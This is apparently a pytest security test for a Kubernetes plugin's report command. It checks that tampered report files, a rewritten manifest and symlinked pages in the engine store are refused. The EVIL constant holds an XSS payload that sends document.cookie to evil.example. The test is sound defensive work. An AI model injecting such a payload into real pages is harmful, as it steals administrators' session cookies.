"""A low finding: ``kubectl optimisedmodel report`` shows what lies in the store, so that who writes the store has their
JavaScript run in an administrator's browser.

The plugin's own way: the pod that it makes is run as a process, its mounts as folders.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from enginewright.clients.resources import DEPLOYMENT, Resource
from enginewright.core.manifests import deployment
from enginewright.plugin.report import fetch
from enginewright.plugin.wishes import WishError
from enginewright_builder.contract import MANIFEST_FILE
from enginewright_builder.engine_store import folder as store
from enginewright_builder.engine_store.manifest import manifest_digest
from support.children import Children, children_of

RAW: dict[str, Any] = {"source": {"uri": "pvc://models/net"}, "placement": {"accelerator": "cpu"},
                       "store": {"uri": "pvc://engines/team"}}
REPORTS = {"report.html": b"<p>fast</p>", "build-report.json": b'{"fast": true}'}
EVIL = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
BUILDERS = Path(store.__file__).parent.parent


class Cluster:
    """As much of the API as the plugin asks for."""

    def __init__(self, children: Children, digest: str, root: Path) -> None:
        record = replace(children.record, outcome=replace(children.record.outcome, manifest_digest=digest))
        self._deployment = deployment(children.owner, children.spec, record, children.placement, children.config)
        self._root, self._said = root, ""

    async def create(self, pod: dict[str, Any], *, namespace: str) -> dict[str, Any]:
        (container,) = pod["spec"]["containers"]
        assert all(mount["mountPath"] == "/store" and mount["readOnly"] for mount in container["volumeMounts"])
        command = [str(self._root) + word.removeprefix("/store") if word.startswith("/store/") else word
                   for word in container["command"]]
        done = await asyncio.to_thread(
            subprocess.run, [sys.executable, *command[1:]], capture_output=True, text=True, timeout=240, check=False,
            env={**os.environ, "PYTHONPATH": str(BUILDERS)})
        self._said = done.stdout + done.stderr
        return {"metadata": {"name": "reader"}}

    async def get(self, resource: Resource, *args: object) -> dict[str, Any]:
        return self._deployment if resource == DEPLOYMENT else {"status": {"phase": "Succeeded"}}

    async def logs(self, *args: object, **kwargs: object) -> str:
        return self._said

    async def delete(self, *args: object, **kwargs: object) -> None:
        """Gone."""


@pytest.fixture
def children() -> Children:
    return children_of("net", RAW)


@pytest.fixture
def engine(children: Children, tmp_path: Path) -> tuple[Cluster, Path]:
    """The cluster, and the engine's folder in the store."""
    staging = tmp_path / "staging"
    staging.mkdir()
    for name, data in REPORTS.items():
        (staging / name).write_bytes(data)
    (tmp_path / "claim" / "team").mkdir(parents=True)
    made = store.publish(staging, tmp_path / "claim" / "team", children.fingerprint, outcome=children.outcome)
    return (Cluster(children, manifest_digest(made), tmp_path / "claim"),
            tmp_path / "claim" / "team" / children.fingerprint)


async def shown(cluster: Cluster, children: Children, file: str) -> bytes:
    owner = children.owner
    obj = {"metadata": {"name": owner.name, "namespace": owner.namespace, "uid": owner.uid}}
    return await fetch(cluster, obj, children.revision, file)  # type: ignore[arg-type]


@pytest.mark.parametrize("file", sorted(REPORTS))
async def test_what_the_build_wrote_is_shown(file: str, engine: tuple[Cluster, Path], children: Children) -> None:
    assert await shown(engine[0], children, file) == REPORTS[file]


@pytest.mark.parametrize("file", sorted(REPORTS))
async def test_a_page_that_was_exchanged_is_not(file: str, engine: tuple[Cluster, Path], children: Children) -> None:
    (engine[1] / file).write_bytes(EVIL)
    with pytest.raises(WishError, match="report"):
        await shown(engine[0], children, file)


async def test_nor_one_that_was_exchanged_with_its_manifest(engine: tuple[Cluster, Path], children: Children) -> None:
    (engine[1] / "report.html").write_bytes(EVIL)
    manifest = json.loads((engine[1] / MANIFEST_FILE).read_text())
    manifest["files"]["report.html"] = {"sha256": hashlib.sha256(EVIL).hexdigest(), "bytes": len(EVIL)}
    (engine[1] / MANIFEST_FILE).write_text(json.dumps(manifest, indent=2))
    with pytest.raises(WishError, match="report"):
        await shown(engine[0], children, "report.html")


async def test_nor_a_link_to_another_file_of_the_volume(engine: tuple[Cluster, Path], children: Children,
                                                        tmp_path: Path) -> None:
    (tmp_path / "page").write_bytes(EVIL)
    (engine[1] / "report.html").unlink()
    (engine[1] / "report.html").symlink_to(tmp_path / "page")
    with pytest.raises(WishError, match="report"):
        await shown(engine[0], children, "report.html")
